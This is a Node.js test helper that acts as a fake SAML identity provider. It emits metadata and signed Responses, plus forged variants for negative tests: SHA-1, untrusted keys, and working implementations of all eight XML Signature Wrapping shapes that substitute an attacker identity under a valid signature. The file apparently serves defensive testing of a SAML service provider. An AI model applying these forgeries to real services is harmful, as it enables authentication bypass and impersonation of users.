// saml-forge.mjs — a SAML IdP in node for the attack suite: its metadata, valid Responses signed
// with xml-crypto (RSA-SHA256, exclusive c14n; Response and assertion both signed), and the tampered
// and re-signed variants the negative tests post to the hub: untrusted key, SHA-1, signature
// wrapping (the XSW shapes of Somorovsky et al. 2012), comments, DTDs. TEST KEYS ONLY.
import { SignedXml } from 'xml-crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { randomBytes } from 'node:crypto';

const NS = {
  p: 'urn:oasis:names:tc:SAML:2.0:protocol', a: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
};
const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const RSA_SHA1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1';
const SHA1 = 'http://www.w3.org/2000/09/xmldsig#sha1';
const EXC = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENV = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

export const newId = () => '_' + randomBytes(16).toString('hex');
const iso = (t) => new Date(t * 1000).toISOString().replace(/\.\d+Z$/, 'Z');

export function idpMetadata(entityId, certB64) {
  return `<?xml version="1.0"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${entityId}">
  <md:IDPSSODescriptor WantAuthnRequestsSigned="true" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:9/sso"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>
`;
}

/** An unsigned Response; o: {issuer, acs, audience, irt, nameId, classRef, now, ttl, authnInstant, ...overrides}. */
export function responseXml(o) {
  const now = o.now ?? Math.floor(Date.now() / 1000);
  const ttl = o.ttl ?? 300;
  const nb = iso(o.notBefore ?? now - 5);
  const noa = iso(o.notOnOrAfter ?? now + ttl);
  return `<samlp:Response xmlns:samlp="${NS.p}" xmlns:saml="${NS.a}" ID="${o.responseId ?? newId()}" Version="2.0" IssueInstant="${iso(now)}" Destination="${o.destination ?? o.acs}" InResponseTo="${o.irt}">`
    + `<saml:Issuer>${o.issuer}</saml:Issuer>`
    + `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>`
    + `<saml:Assertion ID="${o.assertionId ?? newId()}" Version="2.0" IssueInstant="${iso(o.issueInstant ?? now)}">`
    + `<saml:Issuer>${o.issuer}</saml:Issuer>`
    + `<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">${o.nameIdXml ?? o.nameId ?? 'forged-user-1'}</saml:NameID>`
    + `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${noa}" Recipient="${o.recipient ?? o.acs}" InResponseTo="${o.irt}"/></saml:SubjectConfirmation></saml:Subject>`
    + `<saml:Conditions NotBefore="${nb}" NotOnOrAfter="${noa}"><saml:AudienceRestriction><saml:Audience>${o.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>`
    + `<saml:AuthnStatement AuthnInstant="${iso(o.authnInstant ?? now)}" SessionIndex="${newId()}"><saml:AuthnContext><saml:AuthnContextClassRef>${o.classRef}</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`
    + `<saml:AttributeStatement><saml:Attribute Name="urn:oid:2.5.4.42" FriendlyName="givenName"><saml:AttributeValue>Forge</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`
    + `</saml:Assertion></samlp:Response>`;
}

function signOne(xml, key, cert, localName, { sha1 = false } = {}) {
  const sig = new SignedXml({ privateKey: key, publicCert: cert, signatureAlgorithm: sha1 ? RSA_SHA1 : RSA_SHA256, canonicalizationAlgorithm: EXC });
  const xp = `//*[local-name(.)='${localName}']`;
  sig.addReference({ xpath: xp, transforms: [ENV, EXC], digestAlgorithm: sha1 ? SHA1 : SHA256 });
  sig.computeSignature(xml, { prefix: 'ds', location: { reference: `${xp}/*[local-name(.)='Issuer']`, action: 'after' } });
  return sig.getSignedXml();
}

/** Sign the assertion, then (unless assertionOnly) the Response around it. */
export function sign(xml, key, cert, opts = {}) {
  const a = signOne(xml, key, cert, 'Assertion', opts);
  return opts.assertionOnly ? a : signOne(a, key, cert, 'Response', opts);
}

const parse = (xml) => new DOMParser().parseFromString(xml, 'text/xml');
const ser = (doc) => new XMLSerializer().serializeToString(doc);
const el = (parent, ns, name) => Array.from(parent.childNodes).find((n) => n.nodeType === 1 && n.namespaceURI === ns && n.localName === name);

/** The XSW shapes, from a Response whose assertion (and, for XSW1/2, Response) is validly signed. */
export function wrap(shape, signedXml, evilNameId = 'attacker') {
  const doc = parse(signedXml);
  const resp = doc.documentElement;
  const orig = el(resp, NS.a, 'Assertion');
  const evilAssertion = () => {
    const e = orig.cloneNode(true);
    e.setAttribute('ID', newId());
    const s = el(e, NS.ds, 'Signature');
    if (s) e.removeChild(s);
    el(el(e, NS.a, 'Subject'), NS.a, 'NameID').textContent = evilNameId;
    return e;
  };
  const objectIn = (sig, node) => {
    const obj = doc.createElementNS(NS.ds, 'ds:Object');
    obj.appendChild(node);
    sig.appendChild(obj);
  };
  switch (shape) {
    case 'XSW1': case 'XSW2': { // the signed Response moved into (XSW1) or next to (XSW2) its signature
      const copy = resp.cloneNode(true);
      const rsig = el(resp, NS.ds, 'Signature');
      const copySig = el(copy, NS.ds, 'Signature');
      copy.removeChild(copySig);
      resp.setAttribute('ID', newId());
      resp.replaceChild(evilAssertion(), orig);
      if (shape === 'XSW1') objectIn(rsig, copy); else resp.insertBefore(copy, rsig);
      break;
    }
    case 'XSW3': resp.insertBefore(evilAssertion(), orig); break; // evil assertion before the signed one
    case 'XSW4': { const e = evilAssertion(); resp.replaceChild(e, orig); e.appendChild(orig); break; } // signed one inside the evil
    case 'XSW5': { // the signed assertion altered in place, an untouched copy appended
      const copy = orig.cloneNode(true);
      el(el(orig, NS.a, 'Subject'), NS.a, 'NameID').textContent = evilNameId;
      resp.appendChild(copy);
      break;
    }
    case 'XSW6': { // altered in place; the untouched original inside its own signature's Object
      const copy = orig.cloneNode(true);
      el(el(orig, NS.a, 'Subject'), NS.a, 'NameID').textContent = evilNameId;
      orig.setAttribute('ID', newId());
      objectIn(el(orig, NS.ds, 'Signature'), copy);
      break;
    }
    case 'XSW7': { // the signed assertion hidden in Extensions, an evil one in its place
      const ext = doc.createElementNS(NS.p, 'samlp:Extensions');
      resp.insertBefore(ext, el(resp, NS.p, 'Status'));
      const e = evilAssertion();
      resp.replaceChild(e, orig);
      ext.appendChild(orig);
      break;
    }
    case 'XSW8': { // evil assertion keeps the signature; the original (its signature removed) in its Object
      const copy = orig.cloneNode(true);
      copy.removeChild(el(copy, NS.ds, 'Signature'));
      el(el(orig, NS.a, 'Subject'), NS.a, 'NameID').textContent = evilNameId;
      objectIn(el(orig, NS.ds, 'Signature'), copy);
      break;
    }
    default: throw new Error(`unknown shape ${shape}`);
  }
  return ser(doc);
}

export const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
